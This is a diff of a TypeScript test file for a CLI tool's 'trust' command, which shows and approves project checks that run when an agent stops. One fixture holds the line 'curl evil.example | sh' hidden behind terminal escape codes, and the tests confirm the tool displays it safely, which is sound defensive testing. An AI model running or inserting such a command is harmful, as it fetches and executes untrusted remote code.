@@ -89,9 +89,22 @@ describe.concurrent('trust', () => {
       /^\d{4}-\d\d-\d\d \d\d:\d\d {2}\S+project {2}\(current\)\n.*\/other {2}\(no longer exists\)\n$/,
     );
     const { stdout } = await project.run(['trust', '--list', '--json']);
+    const approval = { trustedAt: expect.any(String), entries: 0, files: 0, isCurrent: true };
     expect(JSON.parse(stdout)).toEqual([
-      { folder: project.dir, trustedAt: expect.stringMatching(/^\d{4}-.*Z$/), exists: true, state: 'current' },
-      { folder: other, trustedAt: expect.any(String), exists: false, state: 'gone' },
+      {
+        folder: project.dir,
+        trustedAt: expect.stringMatching(/^\d{4}-.*Z$/),
+        exists: true,
+        state: 'current',
+        approvals: [approval],
+      },
+      {
+        folder: other,
+        trustedAt: expect.any(String),
+        exists: false,
+        state: 'gone',
+        approvals: [{ ...approval, isCurrent: false }],
+      },
     ]);
     expect((await project.run(['trust', '--remove', 'other'])).stdout).toBe(`${other} is no longer trusted.\n`);
     expect((await project.run(['trust', '--remove'])).stdout).toBe(`${project.dir} is no longer trusted.\n`);
@@ -132,14 +145,104 @@ describe.concurrent('trust', () => {
     expect(below.stdout).toContain(`they run when ${project.dir} is trusted: \`stopgate trust ${project.dir}\``);
     const { stdout } = await project.run(['trust', '--yes']);
     expect(stdout).toContain('Trusting this folder enables:\n\nChecks, which run when an agent stops\n');
-    expect(stdout).toContain('  tests\\u{1b}[2J\n    │ curl evil.example\\u{1b}[8m | sh\n    stopgate.config.json\n');
-    expect(stdout).toContain(`    │ ["sh","-c","two words"]\n    stopgate.config.json · runs in ${project.dir}/sub\n`);
+    expect(stdout).toContain(
+      '  tests\\u{1b}[2J\n    │ curl evil.example\\u{1b}[8m | sh\n    stopgate.config.json · runs in this folder · ',
+    );
+    expect(stdout).toContain('    │ ["sh","-c","two words"]\n    stopgate.config.json · runs in sub · ');
     expect(stdout).not.toContain('\u001b');
     const json = JSON.parse((await project.run(['trust', '--yes', '--json'])).stdout);
     expect(json.switchesOn.checks).toEqual([
       expect.objectContaining({ name: checks[0]?.name, command: checks[0]?.command, cwd: project.dir }),
       expect.objectContaining({ command: JSON.stringify(words), cwd: `${project.dir}/sub` }),
     ]);
+  });
+
+  const WHOLE = {
+    checks: [
+      { name: 'tests', command: 'npm test && sh check.sh', timeout: '90s', severity: 'warn', baseline: 'session' },
+      { name: 'lint', command: 'sh check.sh', cwd: 'sub', when: 'always', inputs: ['.env'], lines: 7 },
+    ],
+    protect: ['test/**', '*.lock'],
+    editable: ['src/**'],
+    maxBlocks: 9,
+  };
+
+  function writeWhole(project: TestProject): void {
+    project.write('stopgate.config.json', JSON.stringify(WHOLE));
+    project.write('package.json', '{"scripts":{"test":"node --test"}}');
+    project.write('check.sh', 'echo checked\n');
+    project.write('sub/check.sh', `${'# long\n'.repeat(200)}`);
+  }
+
+  it('shows all that it would approve of checks at first sight', async () => {
+    await using project = await testProject();
+    writeWhole(project);
+    const { stdout } = await project.run(['trust']);
+    expect(stdout).toContain(
+      'runs in this folder · at most 1m30s · only advises (severity warn) · accepts what fails when a session begins (baseline session) · ',
+    );
+    expect(stdout).toContain('runs in sub · at most 10m · blocks a stop (severity block) · no baseline of its own · ');
+    expect(stdout).toContain('when: always · sends at most 7 lines of a failure · also depends on .env\n');
+    expect(stdout).toContain('  protect (a session must not change these)\n    │ test/**\n    │ *.lock\n');
+    expect(stdout).toContain('  editable (agents may change these, although checks run them)\n    │ src/**\n');
+    expect(stdout).toContain('  gives up after 2 stops without progress, or 9 blocked stops\n');
+    expect(stdout).toContain('  check.sh (13 bytes), run by the check tests\n');
+    expect(stdout).toContain('  sub/check.sh (1.4 kB), run by the check lint\n');
+    expect(stdout).toContain('  package.json, run by the check tests\n    │ test: node --test\n');
+    expect(stdout).not.toContain('echo checked');
+    expect((await project.run(['trust', '--show-files'])).stdout).toContain(
+      '  check.sh (13 bytes), run by the check tests\n    │ echo checked\n',
+    );
+  });
+
+  it('prints the same as data without approving', async () => {
+    await using project = await testProject();
+    writeWhole(project);
+    const { code, stdout, stderr } = await project.run(['trust', '--json']);
+    expect(code).toBe(1);
+    expect(stderr).toBe(`stopgate: ${project.dir} is not trusted; pass --yes to approve what this lists.\n`);
+    const { trusted, already, switchesOn } = JSON.parse(stdout);
+    expect({ trusted, already }).toEqual({ trusted: false, already: false });
+    const { protect, editable, maxBlocks } = WHOLE;
+    expect(switchesOn.definition).toEqual({ protect, editable, stallAfter: 2, maxBlocks });
+    expect(switchesOn.checks[0]).toMatchObject({
+      ...{ name: 'tests', cwd: project.dir, timeoutMs: 90_000, severity: 'warn', baseline: 'session' },
+      files: expect.arrayContaining([expect.objectContaining({ path: 'check.sh', bytes: 13 })]),
+    });
+    expect((await project.run(['trust', '--list'])).stdout).toBe('No folder is trusted.\n');
+    await project.run(['trust', '--yes']);
+    project.write('check.sh', 'echo other\n');
+    const changed = await project.run(['trust', '--json']);
+    expect(changed.code).toBe(1);
+    expect(JSON.parse(changed.stdout)).toMatchObject({ trusted: false, difference: { files: [{ path: 'check.sh' }] } });
+  });
+
+  it('shows what else of a check changed than its command', async () => {
+    await using project = await testProject();
+    writeWhole(project);
+    await project.run(['trust', '--yes']);
+    project.write('stopgate.config.json', JSON.stringify(WHOLE).replace('90s', '1s'));
+    const { stdout } = await project.run(['trust']);
+    expect(stdout).toMatch(/- .*at most 1m30s.*\n(?:.*\n)*.*\+ .*at most 1s/);
+  });
+
+  it.each([
+    ['unreadable JSON', '{ "checks": [', /stopgate\.config\.json:1:\d+: /],
+    ['a wrong type', '{\n"checks": "npm test" }', /stopgate\.config\.json:2: checks: must be a list/],
+  ])('refuses a configuration with %s', async (_what, text, place) => {
+    await using project = await testProject();
+    project.write('stopgate.config.json', text);
+    for (const args of [
+      ['trust', '--yes'],
+      ['trust', '--json'],
+      ['init', '--yes'],
+    ]) {
+      const { code, stdout, stderr } = await project.run(args);
+      expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
+      expect(stderr).toMatch(place);
+      expect(stderr).toMatch(/; nothing was trusted: correct it and run the command again\.\n$/);
+    }
+    expect((await project.run(['trust', '--list'])).stdout).toBe('No folder is trusted.\n');
   });
 
   it('is given by init only with the commands in sight', async () => {
